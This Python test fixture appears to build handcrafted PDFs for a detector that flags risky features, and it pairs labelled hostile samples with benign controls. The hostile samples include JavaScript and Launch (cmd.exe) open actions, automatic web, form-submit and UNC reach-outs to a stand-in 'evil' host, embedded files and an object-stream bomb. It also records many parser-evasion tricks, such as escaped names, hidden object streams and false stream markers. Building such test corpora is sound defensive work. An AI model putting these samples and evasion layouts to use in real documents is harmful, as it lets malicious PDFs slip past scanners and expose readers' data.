"""PDF documents written by hand: what is in them is what the test says, byte for byte."""

import zlib

HEAD = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
TEXT = b"BT /F1 12 Tf (Vaccinated on 12 May. See application/javascript and x/Launching.) Tj ET"
JAVASCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def stream(content: bytes, header: bytes = b"", *, deflate: bool = True) -> bytes:
    body = zlib.compress(content) if deflate else content
    filtered = b"/Filter/FlateDecode" if deflate else b""
    return b"<</Length %d%b%b>>\nstream\n%b\nendstream" % (len(body), filtered, header, body)


def object_stream(objects: dict[int, bytes], *, header: bytes = b"", deflate: bool = True, index: bytes = b"") -> bytes:
    """`index`: what stands before the numbers."""
    offsets, body = [], b""
    for number, content in objects.items():
        offsets.append(b"%d %d" % (number, len(body)))
        body += content + b" "
    index += b" ".join(offsets) + b" "
    return stream(index + body, b"/Type/ObjStm/N %d/First %d%b" % (len(objects), len(index), header), deflate=deflate)


def document(catalog: bytes = b"", *more: bytes, trailer: bytes = b"") -> bytes:
    """A page of text; `catalog` is added to the catalog, `more` are objects from number 5 on."""
    objects = (b"<</Type/Catalog/Pages 2 0 R%b>>" % catalog, PAGES, PAGE, stream(TEXT), *more)
    whole, offsets = HEAD, []
    for number, content in enumerate(objects, 1):
        offsets.append(len(whole))
        whole += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return (
        whole
        + b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n"
        % (
            len(objects) + 1,
            table,
            len(objects) + 1,
            trailer,
            len(whole),
        )
    )


XMP = b"""<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF
xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description pdf:Producer="Writer /S x"/></rdf:RDF>
</x:xmpmeta><?xpacket end="w"?>"""

BENIGN: dict[str, bytes] = {
    "plain": document(),
    "opens at a place": document(b"/OpenAction[3 0 R/XYZ null null 0]"),
    "opens by GoTo": document(b"/OpenAction 5 0 R", b"<</S/GoTo/D[3 0 R/FitH 800]>>"),
    "opens by GoTo inline": document(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "opens by GoTo in an object stream": document(
        b"/OpenAction 9 0 R", object_stream({9: b"<</S/GoTo/D[3 0 R/Fit]>>", 10: b"<</A<</S/URI/URI(https://x)>>>>"})
    ),
    "has links": document(b"", b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://vet.example/launch)>>>>"),
    "opens by GoTo from an object stream": document(
        b"/OpenAction%c\n9 0 R", object_stream({8: b"[]", 9: b"<</Type/Action/S/GoTo/D[3 0 R/Fit]>>"})
    ),
    "opens at its first page": document(b"/OpenAction<</S/Named/N/FirstPage>>"),
    "has no actions of its page": document(b"", b"<</Type/Page/AA<< >>/B<</S/S/W 1>>/A<</S/URI/URI(https://x)>>>>"),
    "has a hint stream": document(b"", stream(b"x", b"/S 36/I 88")),
    "is tagged": document(b"", b"<</S/P/P 7 0 R/K[0 1]>>", b"<</S/Transparency/CS/DeviceRGB>>"),
    "has a form": document(b"/AcroForm<</Fields[5 0 R]>>", b"<</FT/Tx/T(Name)/V(Minka)>>"),
    "has metadata": document(b"/Metadata 5 0 R", stream(XMP, b"/Type/Metadata/Subtype/XML", deflate=False)),
    "has object streams": document(b"", object_stream({7: b"<</Type/Font/BaseFont/Helvetica>>", 8: b"[1 2 3]"})),
    "is protected against changes": document(b"", b"<</Filter/Standard/V 2/R 3>>", trailer=b"/Encrypt 5 0 R"),
    "has many pages": document(b"", b"<</Type/Pages/Kids[" + b"12345 0 R " * 20_000 + b"]>>"),
    "has an outline": document(b"/Outlines 5 0 R", b"<</First 6 0 R/Last 6 0 R/Count 1>>", b"<</Title(First)>>"),
    "has escaped names": document(b"", b"<</Type/Font/BaseFont/Arial#20Bold#2CItalic>>"),
}

_HEX = JAVASCRIPT.hex().encode() + b">"
_NAMES = b"/Names<</JavaScript<</Names[(a) 5 0 R]>>>>"
JAVASCRIPTS: dict[str, bytes] = {
    "on opening": document(b"/OpenAction 5 0 R", JAVASCRIPT),
    "inline": document(b"/OpenAction" + JAVASCRIPT),
    "by name": document(_NAMES, JAVASCRIPT),
    "with spaces and comments": document(b"/OpenAction 5 0 R", b"<</S %x\n /JavaScript\n/JS(1)>>"),
    "on a page": document(b"", b"<</Type/Page/AA<</O" + JAVASCRIPT + b">>>>"),
    "escaped": document(b"/OpenAction 5 0 R", b"<</S/J#61va#53cript/JS(1)>>"),
    "all escaped": document(b"", b"<</S/" + b"".join(b"#%02X" % each for each in b"JavaScript") + b"/JS(1)>>"),
    "in an object stream": document(b"/OpenAction 9 0 R", object_stream({9: JAVASCRIPT})),
    "escaped in an object stream": document(b"", object_stream({9: b"<</S/Java#53cript/JS(1)>>"})),
    "in an object stream as it is": document(b"", object_stream({9: b"<</S/Java#53cript/JS(1)>>"}, deflate=False)),
    "in an object stream with escaped keys": document(
        b"", object_stream({9: JAVASCRIPT}).replace(b"/Filter", b"/Fi#6Cter").replace(b"/First", b"/F#69rst")
    ),
    "in an object stream with a filter in a list": document(
        b"", object_stream({9: JAVASCRIPT}).replace(b"/Filter/FlateDecode", b"/Filter [ /FlateDecode ]")
    ),
    "in an object stream of another type": document(b"", object_stream({9: JAVASCRIPT}).replace(b"ObjStm", b"Nothin")),
    "in an object stream behind a comment": document(
        b"", object_stream({9: JAVASCRIPT}).replace(b">>\nstream", b"%" + b"x" * 5000 + b"\n>>stream", 1)
    ),
    "in an object stream with a false mark in a text": document(
        b"", object_stream({9: JAVASCRIPT}, header=b"/X(endobj 7 0 obj<<%)/Y/a\\")
    ),
    "in an object stream with a false mark in a comment": document(
        b"", object_stream({9: JAVASCRIPT}, header=b"%endobj 7 0 obj<<>>stream\n")
    ),
    "in an object stream with brackets in texts": document(
        b"", object_stream({9: JAVASCRIPT}, header=b"/X(a(>>)\\)>>)/Y<3E3E>/Z[(])<</A(>>stream)>>]")
    ),
    "behind a false stream": document(
        b"/X(9 0 obj<<>>stream\n)", b"endstream", b"<</OpenAction 9 0 R>>", object_stream({9: JAVASCRIPT})
    ),
    "inside another stream": document(b"", stream(b"9 0 obj " + JAVASCRIPT + b" endobj", deflate=False)),
    "escaped inside another stream": document(b"", stream(b"9 0 obj <</S/J#61vaScript>> endobj", deflate=False)),
    "an object stream inside another stream": document(
        b"", stream(b"9 0 obj " + object_stream({9: JAVASCRIPT}) + b" endobj", deflate=False)
    ),
    "as a rendition": document(b"/OpenAction<</S/Rendition/JS(1)>>"),
    "behind something else": b"\x00 " * 400 + document(_NAMES, JAVASCRIPT),
}

OTHERS: dict[str, tuple[str, bytes]] = {
    "launch": ("pdf_launch", document(b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
    "launch in an object stream": ("pdf_launch", document(b"", object_stream({9: b"<</S/L#61unch/Win<<>>>>"}))),
    "opens a page of the web": ("pdf_acts_by_itself", document(b"/OpenAction<</S/URI/URI(https://evil)>>")),
    "opens a page by reference": (
        "pdf_acts_by_itself",
        document(b"/OpenAction 5 0 R", b"<</S /URI/URI(https://evil)>>"),
    ),
    "opens one from an object stream": (
        "pdf_acts_by_itself",
        document(b"/OpenAction 9 0 R", object_stream({8: b"[]", 9: b"<</S\n/URI/URI(https://evil)>>"})),
    ),
    "opens one behind a false stream": (
        "pdf_acts_by_itself",
        document(b"/X(9 0 obj<<>>stream\n)/OpenAction<</S/URI/URI(https://evil)>>"),
    ),
    "opens one behind brackets in a text and a comment": (
        "pdf_acts_by_itself",
        document(b"/OpenAction<</X(>>\\)(>>))%>>\n/S/URI/URI(https://evil)>>"),
    ),
    "sends a form": ("pdf_reaches_out", document(b"/Open#41ction<</S/SubmitForm/F(https://evil)>>")),
    "opens by an action that nobody finds": ("pdf_acts_by_itself", document(b"/OpenAction 77 0 R")),
    "a file inside": ("pdf_embedded_file", document(b"/Names<</EmbeddedFiles 5 0 R>>", b"<<>>")),
    "a file inside, only": ("pdf_embedded_file", document(b"", stream(b"MZ", b"/Type/EmbeddedFile"))),
    "a file inside, in an object stream": (
        "pdf_embedded_file",
        document(b"", object_stream({9: b"<</Names[]/Embedded#46iles 8 0 R>>"})),
    ),
    "a file pinned to a page": ("pdf_embedded_file", document(b"", b"<</Subtype/FileAttachment>>")),
    "a form with scripts": ("pdf_script_form", document(b"/AcroForm<</XFA[(template)5 0 R]>>", stream(b"<x/>"))),
    "encrypted, with object streams": (
        "encrypted",
        document(b"", b"<</Filter/Standard/V 2>>", object_stream({9: JAVASCRIPT}), trailer=b"/Encrypt 5 0 R"),
    ),
    "javascript in an encrypted document": (
        "pdf_javascript",
        document(b"/OpenAction" + JAVASCRIPT, b"<</Filter/Standard/V 2>>", trailer=b"/Encrypt 5 0 R"),
    ),
    "objects that zlib does not know": (
        "pdf_too_complex",
        document(b"", object_stream({9: JAVASCRIPT}).replace(b"stream\nx", b"stream\ny", 1)),
    ),
    "objects behind hex": (
        "pdf_too_complex",
        document(b"", stream(_HEX, b"/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode", deflate=False)),
    ),
    "objects behind two filters": (
        "pdf_too_complex",
        document(b"", object_stream({9: JAVASCRIPT}).replace(b"/FlateDecode", b"[/ASCII85Decode/FlateDecode]")),
    ),
    "objects behind a second filter": (
        "pdf_too_complex",
        document(b"", object_stream({9: JAVASCRIPT}).replace(b"/FlateDecode", b"[/FlateDecode/ASCIIHexDecode]")),
    ),
    "objects with a filter elsewhere": (
        "pdf_too_complex",
        document(b"", object_stream({9: JAVASCRIPT}).replace(b"/Filter/FlateDecode", b"/Filter 6 0 R")),
    ),
    "objects with a predictor": (
        "pdf_too_complex",
        document(b"", object_stream({9: JAVASCRIPT}, header=b"/DecodeParms<</Predictor 12/Columns 4>>")),
    ),
    "objects that lie somewhere else": ("pdf_too_complex", document(b"", object_stream({9: b""}, header=b"/F(x)"))),
    "a bomb of objects": ("pdf_too_complex", document(b"", object_stream({9: b" " * 100_000_000}))),
    "an object behind too much": (
        "pdf_too_complex",
        document(b"", object_stream({9: b""}).replace(b">>\nstream", b"%" + b"x" * 1_100_000 + b"\n>>stream", 1)),
    ),
}

_WEB = b"<</S/URI/URI(https://evil)>>"
_PLACE = b"<</S/GoTo/D[3 0 R/Fit]"
# What happens without a click, in ways that a reader understands and a hasty look does not.
ACTING: dict[str, tuple[str, bytes]] = {
    "a page that opens the web": ("pdf_acts_by_itself", document(b"", b"<</Type/Page/AA<</O" + _WEB + b">>>>")),
    "a page with actions elsewhere": ("pdf_acts_by_itself", document(b"", b"<</Type/Page/A#41%x\n6%y\n0 R>>")),
    "a link that is entered": ("pdf_acts_by_itself", document(b"", b"<</Subtype/Link/AA <</E" + _WEB + b">>>>")),
    "a page that asks another computer": (
        "pdf_reaches_out",
        document(b"", b"<</Type/Page/AA<</O<</S/GoToR/F(\\\\evil\\x)/D[0]>>>>>>"),
    ),
    "a document inside another one": ("pdf_reaches_out", document(b"", b"<</S%x\n/GoToE/F(\\\\evil\\x)>>")),
    "data from a file": ("pdf_reaches_out", document(b"/AA<</WC<</S/ImportData/F(x.fdf)>>>>")),
    "a page of the web after a place": (
        "pdf_acts_by_itself",
        document(b"/OpenAction" + _PLACE + b"/Next 5 0 R>>", _WEB),
    ),
    "a second kind": ("pdf_acts_by_itself", document(b"/OpenAction" + _PLACE + b"/#53/URI/URI(https://evil)>>")),
    "a kind behind a text": (
        "pdf_acts_by_itself",
        document(b"/OpenAction<</X(/S/GoTo " + b"x" * 2000 + b")/S/URI/URI(https://evil)>>"),
    ),
    "a kind behind a comment": ("pdf_acts_by_itself", document(b"/OpenAction<</S%c\n/URI/URI(https://evil)>>")),
    "a kind that stands elsewhere": ("pdf_acts_by_itself", document(b"/OpenAction<</S 5 0 R/URI(x)>>", b"/URI")),
    "a click of a kind that stands elsewhere": (
        "pdf_too_complex",
        document(b"", b"<</A<</S%c\n6\x00 0 R>>>>", b"/Launch"),
    ),
    "an object behind a comment, beside a harmless one": (
        "pdf_acts_by_itself",
        document(b"/OpenAction 77 0 R", b"77 0 obj" + _PLACE + b">>endobj 77%x\n0%y\nobj" + _WEB),
    ),
    "an object with a comment in its index": (
        "pdf_too_complex",
        document(b"/OpenAction 9 0 R", object_stream({9: _WEB}, index=b"%c\n")),
    ),
    "a form with scripts behind a comment": ("pdf_script_form", document(b"/AcroForm<</XFA%c\n5 0 R>>")),
    "a form with scripts, named in hex": ("pdf_script_form", document(b"/AcroForm<</XFA[%c\n<61>5 0 R]>>")),
    "a crowd of actions": ("pdf_acts_by_itself", document(b"/OpenAction 3 0 R" * 200)),
    "a model that brings scripts": ("pdf_javascript", document(b"", b"<</Type/3D/OnInstantiate 6 0 R>>")),
}
